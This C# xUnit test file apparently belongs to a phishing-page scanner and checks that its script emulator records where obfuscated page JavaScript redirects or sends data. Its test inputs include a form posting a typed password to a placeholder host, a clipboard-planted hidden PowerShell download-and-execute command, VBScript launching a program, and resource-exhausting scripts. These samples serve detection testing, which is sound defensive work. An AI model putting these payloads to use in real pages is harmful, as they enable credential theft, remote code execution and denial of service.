using System.Text;
using Lurewatch.Files;
using Lurewatch.Scripts;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Scripts.JavaScript;

public sealed class PageScriptTests
{
    private static Analysis Scan(string page, string name = "page.html") => new MailScanner(new ScanOptions { Strict = true, Limits = new AnalysisLimits { Time = TimeSpan.FromMinutes(1) } }).Scan(Encoding.UTF8.GetBytes(page), name);

    private static IReadOnlyList<ScriptAction> Actions(string page, string name = "page.html") => ((IHasActions)Scan(page, name).Root.Facts!).Actions;

    private static void ShouldFetch(string page, string url) => Actions(page).ShouldContain(action => action.Kind == ScriptActionKind.Fetch && action.Target == url);

    private static string Load(string script) => $"<html><body><div id='t' data-k='https://data.example/k'>text</div><script>{script}</script></body></html>";

    [Theory]
    [InlineData("location = 'https://go.example/1'", "https://go.example/1")]
    [InlineData("document.location.href = 'https://go.example/1'", "https://go.example/1")]
    [InlineData("window['loc' + 'ation']['replace'](atob('aHR0cHM6Ly9nby5leGFtcGxlLzE='))", "https://go.example/1")]
    [InlineData("window.open(document.getElementById('t').dataset.k)", "https://data.example/k")]
    [InlineData("setTimeout(\"top.location.assign('https://go.example/2')\", 5000)", "https://go.example/2")]
    [InlineData("window.onload = function () { location.href = 'https://go.example/3'; }", "https://go.example/3")]
    [InlineData("document.addEventListener('mousemove', e => { if (e.isTrusted) location.href = 'https://go.example/4'; })", "https://go.example/4")]
    [InlineData("$(function () { $.post('https://go.example/5', { a: 1 }); })", "https://go.example/5")]
    [InlineData("var s = document.createElement('script'); s.src = 'https://go.example/6'; document.head.appendChild(s)", "https://go.example/6")]
    [InlineData("document.body.innerHTML = '<img src=x>'; navigator.sendBeacon('https://go.example/7')", "https://go.example/7")]
    [InlineData("document.write('<meta http-equiv=refresh content=\"0;url=https://go.example/8\">')", "https://go.example/8")]
    [InlineData("document.write('<iframe src=\"https://go.example/9\"></iframe>')", "https://go.example/9")]
    [InlineData("fetch('https://go.example/10').then(r => r.text()).then(t => { location = 'https://go.example/11' })", "https://go.example/11")]
    [InlineData("var n = 0, i = setInterval(() => { if (++n == 5) { clearInterval(i); location = 'https://go.example/12' } }, 1000)", "https://go.example/12")]
    [InlineData("new Function('return this')()['eval'](unescape('location%3D%22https%3A//go.example/13%22'))", "https://go.example/13")]
    public void Where_a_script_leads_is_recorded(string script, string url) => ShouldFetch(Load(script), url);

    [Theory]
    [InlineData("<div id=box>https://name.example/1</div><script>location = box.innerText</script>", "https://name.example/1")]
    [InlineData("<form name=f><input name=u value='https://name.example/2'></form><script>location = document.f.u.value</script>", "https://name.example/2")]
    [InlineData("<script data-u='https://name.example/3'>location = document.currentScript.dataset.u</script>", "https://name.example/3")]
    [InlineData("<script src='data:text/javascript,location=%22https://name.example/4%22'></script>", "https://name.example/4")]
    [InlineData("<script type=module>const a = await fetch('https://name.example/5')</script>", "https://name.example/5")]
    [InlineData("<script>location = (function () { /*https://name.example/6*/ }).toString().split('*')[1].replace('/h', 'h')</script>", "https://name.example/6")]
    [InlineData("<img src=x onerror=\"location='https://name.example/7'\">", "https://name.example/7")]
    [InlineData("<a href=\"javascript:location='https://name.example/8'\">x</a>", "https://name.example/8")]
    [InlineData("<form onsubmit=\"fetch('https://name.example/9', {body: pw.value}); return false\"><input id=pw type=password></form>", "https://name.example/9")]
    public void What_scripts_take_out_of_their_page_is_there(string page, string url) => ShouldFetch(page, url);

    [Fact]
    public void A_page_in_a_frame_runs_too()
    {
        var inner = Convert.ToBase64String("<script>location='https://frame.example/'</script>"u8);
        Scan(Load($"var f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([atob('{inner}')], {{ type: 'text/html' }})); document.body.append(f)")).Indicators.ShouldContain(indicator => indicator.Value == "https://frame.example/");
    }

    [Fact]
    public void What_a_handler_in_an_attribute_does_is_recorded() => ShouldFetch("<body onload=\"go()\"><a href='#' onclick=\"location='https://b.example/'\">x</a><script>function go() { location = 'https://a.example/'; }</script>", "https://a.example/");

    [Fact]
    public void A_script_that_does_not_parse_costs_itself_alone() => ShouldFetch("<script>var = ;</script><script>location='https://after.example/'</script>", "https://after.example/");

    [Fact]
    public void A_line_that_does_not_parse_costs_that_line() => ShouldFetch("<script>var u = 'https://line.example/';\nvar = ;\nlocation = u;</script>", "https://line.example/");

    [Fact]
    public void A_statement_that_fails_costs_that_statement() => ShouldFetch("<script>var u = 'https://next.example/';\nnotThere.at.all();\nnull.x;\nlocation = u;</script>", "https://next.example/");

    [Fact]
    public void A_page_that_scripts_write_is_read_as_a_page()
    {
        var analysis = Scan(Load("document.write(unescape('%3Cform%20action%3D%22https%3A//post.example/p%22%3E%3Cinput%20type%3Dpassword%3E%3C/form%3E'))"));
        var written = analysis.Artifacts.Single(file => file.Origin == "written");
        written.Type.ShouldBe(FileType.Html);
        written.Steps.ShouldBe(["script", "document.write"]);
        analysis.Findings.ShouldContain(finding => finding.Kind.Id == "attachment.html-asks-for-password" && finding.Place == Place.InArtifact(written.Path));
    }

    [Fact]
    public void A_script_that_is_written_runs_once() =>
        Actions(Load("document.write('<scr' + 'ipt>location=\"https://written.example/\"</scr' + 'ipt>')")).Count(action => action.Target == "https://written.example/").ShouldBe(1);

    [Fact]
    public void A_command_in_the_clipboard_is_a_command() =>
        Scan(Load("navigator.clipboard.writeText('powershell -w hidden iwr https://clip.example/a | iex')")).Artifacts.ShouldContain(file => file.Origin == "command");

    [Fact]
    public void VbScript_in_a_page_is_a_file_of_its_own() =>
        Scan("<script language='VBScript'>CreateObject(\"WScript.Shell\").Run \"calc\"</script>").Artifacts.ShouldContain(file => file.Type == FileType.VbScript && file.Origin == "script");

    [Fact]
    public void A_file_in_an_address_without_any_script_is_a_file() =>
        Scan($"<a href=\"data:application/zip;base64,{Convert.ToBase64String(Lurewatch.Samples.ZipWriter.Write([("a.txt", new byte[50])]))}\" download=\"x.zip\">x</a>").Artifacts.ShouldContain(file => file.Name == "x.zip" && file.Type == FileType.Zip);

    [Theory]
    [InlineData("while (true) { }")]
    [InlineData("var s = 'x'; while (true) s += s;")]
    [InlineData("var a = []; while (true) a.push({ x: [1, 2, 3] });")]
    [InlineData("function f(n) { return f(n + 1) + 1 } f(0);")]
    [InlineData("var o = { toString: function () { return '' + this } }; '' + o;")]
    [InlineData("/^(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!');")]
    [InlineData("for (;;) new Uint8Array(1e8);")]
    [InlineData("eval('['.repeat(100000)); new RegExp('('.repeat(100000));")]
    [InlineData("var p = new Proxy({}, { get: (t, k) => p[k] }); p.x;")]
    [InlineData("function g() { Promise.resolve().then(g) } g();")]
    [InlineData("setInterval(function () { setTimeout(arguments.callee, 1); setTimeout(arguments.callee, 1) }, 1)")]
    [InlineData("document.write('<scr' + 'ipt>' + document.scripts[0].text + '</scr' + 'ipt>')")]
    [InlineData("var d = document.createElement('div'), e = d; for (var i = 0; i < 5000; i++) { var n = document.createElement('div'); e.appendChild(n); e = n } d.outerHTML; d.cloneNode(true)")]
    [InlineData("var b = []; for (var i = 0; i < 20000; i++) b = [b]; '' + b; JSON.stringify(b)")]
    [InlineData("Object.defineProperty(Object.prototype, 'x', { get() { return this.x } }); ({}).x; Array.prototype.push = null;")]
    public void A_hostile_script_ends_and_leaves_what_stands_beside_it(string script)
    {
        var before = GC.GetAllocatedBytesForCurrentThread();
        var analysis = Scan($"<script>location='https://before.example/'</script><script>{script}</script>");
        ((IHasActions)analysis.Root.Facts!).Actions.ShouldContain(action => action.Target == "https://before.example/");
        (GC.GetAllocatedBytesForCurrentThread() - before).ShouldBeLessThan(1L << 30);
    }

    [Fact]
    public void The_same_page_gives_the_same_answer_twice()
    {
        var page = Load("location = 'https://r.example/' + Math.random() + Date.now() + crypto.getRandomValues(new Uint8Array(4)).join('')");
        Actions(page).ShouldBe(Actions(page), new ActionComparer());
    }

    private sealed class ActionComparer : IEqualityComparer<ScriptAction>
    {
        public bool Equals(ScriptAction? x, ScriptAction? y) => x?.Target == y?.Target && x?.Kind == y?.Kind;
        public int GetHashCode(ScriptAction obj) => obj.Target.GetHashCode(StringComparison.Ordinal);
    }
}
